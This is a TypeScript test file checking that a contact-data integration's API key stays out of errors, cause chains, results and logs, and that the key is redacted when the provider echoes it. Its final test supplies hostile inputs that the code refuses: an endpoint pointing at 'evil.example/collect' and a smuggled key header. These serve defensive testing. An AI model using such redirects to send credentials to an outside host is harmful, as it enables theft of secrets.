import { inspect } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { MemoryLogger } from '../../../src/model/logger.js';
import { resetOnce } from '../../support/faults.js';
import { type ContactDataFixture, contactDataFixture, TEST_KEY } from './contact-data-fixture.js';

/** Everything a caller, a log or an agent could see of an error, including its whole cause chain. */
function everything(error: unknown): string {
  const parts: string[] = [];
  for (let current = error, depth = 0; current !== undefined && depth < 10; depth += 1) {
    parts.push(JSON.stringify(current), inspect(current, { depth: 10, showHidden: true }), String(current));
    if (current instanceof Error) parts.push(current.message, current.stack ?? '');
    current = current instanceof Error ? current.cause : undefined;
  }
  return parts.join('\n');
}

describe('the contact_data API key never leaks', () => {
  let fx: ContactDataFixture;
  let logger: MemoryLogger;
  afterEach(async () => {
    await fx.close();
  });

  const setUp = async () => {
    logger = new MemoryLogger();
    fx = await contactDataFixture({ runtime: { logger } });
  };

  it('not in errors, even when the provider echoes a wrong key back', async () => {
    await setUp();
    const wrongKey = 'cd_wrong_key_71d0c3a9';
    const error = await fx
      .invoke(
        'contact_data.find_contact',
        { email: 'a@b.example' },
        {
          connection: { ...fx.connection, secrets: { apiKey: wrongKey } },
        },
      )
      .catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({
      code: 'reauthorization_required',
      status: 401,
      fields: [{ path: 'api_key' }],
    });
    expect(everything(error)).not.toContain(wrongKey);
    expect(everything(error)).toContain('[redacted]');
    expect(JSON.stringify(logger.lines)).not.toContain(wrongKey);
  });

  it('not in errors from failures mid-run, their causes, or logs', async () => {
    await setUp();
    fx.sandbox.faults.add(resetOnce({ target: 'contact-data' }, 'before'));
    fx.sandbox.faults.add({
      target: 'contact-data',
      count: 1,
      action: {
        kind: 'status',
        status: 400,
        body: { statusCode: 400, message: `bad key ${TEST_KEY}`, errors: [] },
      },
    });
    const failures: unknown[] = [];
    for (const input of [{ domain: 'contoso.example' }, { domain: 'contoso.example' }]) {
      failures.push(await fx.invoke('contact_data.find_company', input).catch((thrown: unknown) => thrown));
    }
    expect(failures.map((failure) => (failure as { code: string }).code)).toEqual([
      'network_error',
      'provider_rejected',
    ]);
    for (const failure of failures) expect(everything(failure)).not.toContain(TEST_KEY);
    expect(JSON.stringify(logger.lines)).not.toContain(TEST_KEY);
  });

  it('not in errors whose field-level messages echo the key, single or bulk', async () => {
    await setUp();
    const echo = {
      kind: 'status' as const,
      status: 400,
      body: {
        statusCode: 400,
        message: 'Bad request',
        errors: [
          { field: 'api_key', message: `unknown key ${TEST_KEY}` },
          `key ${TEST_KEY} is not valid here`,
        ],
      },
    };
    fx.sandbox.faults.add({ target: 'contact-data', count: 2, action: echo });
    const single = await fx
      .invoke('contact_data.find_company', { domain: 'contoso.example' })
      .catch((thrown: unknown) => thrown);
    expect(single).toMatchObject({
      code: 'provider_rejected',
      status: 400,
      fields: [{ path: 'api_key' }, { path: 'body' }],
    });
    const bulk = await fx
      .invoke('contact_data.enrich_companies', { companies: [{ domain: 'contoso.example' }] })
      .catch((thrown: unknown) => thrown);
    expect(bulk).toMatchObject({ code: 'provider_rejected', status: 400 });
    for (const failure of [single, bulk]) {
      // The provider did echo it: the redaction is what keeps it out.
      expect(everything(failure)).toContain('[redacted]');
      expect(everything(failure)).not.toContain(TEST_KEY);
    }
    expect(JSON.stringify(logger.lines)).not.toContain(TEST_KEY);
  });

  it('not in outputs, variables, meta or logs of successful and bulk runs', async () => {
    await setUp();
    const people = fx.sandbox.contactData.directory.people;
    const results = [
      await fx.invoke('contact_data.find_contact', { email: people[5]!.emailAddresses[0]!.email }),
      await fx.invoke('contact_data.enrich_contacts', {
        contacts: people.slice(0, 12).map((person) => ({ email: person.emailAddresses[0]!.email })),
        batch_size: 5,
      }),
      await fx.invoke('contact_data.api_call', { method: 'GET', endpoint: '/account/usage' }),
    ];
    for (const result of results) expect(JSON.stringify(result)).not.toContain(TEST_KEY);
    expect(logger.lines.length).toBeGreaterThan(0);
    expect(JSON.stringify(logger.lines)).not.toContain(TEST_KEY);
  });

  it('an API Call cannot send the key anywhere else or set the key header itself', async () => {
    await setUp();
    await expect(
      fx.invoke('contact_data.api_call', { method: 'GET', endpoint: '//evil.example/collect' }),
    ).rejects.toMatchObject({ code: 'input_invalid' });
    // No custom headers on this integration: a smuggled api_key header is refused, nothing is sent.
    await expect(
      fx.invokeUnchecked('contact_data.api_call', {
        method: 'GET',
        endpoint: '/account/usage',
        headers: { api_key: 'cd_other_key_000' },
      }),
    ).rejects.toMatchObject({ code: 'input_invalid' });
    await fx.invoke('contact_data.api_call', { method: 'GET', endpoint: '/account/usage' });
    expect(fx.sent().map((request) => request.headers.api_key)).toEqual([TEST_KEY]);
  });
});
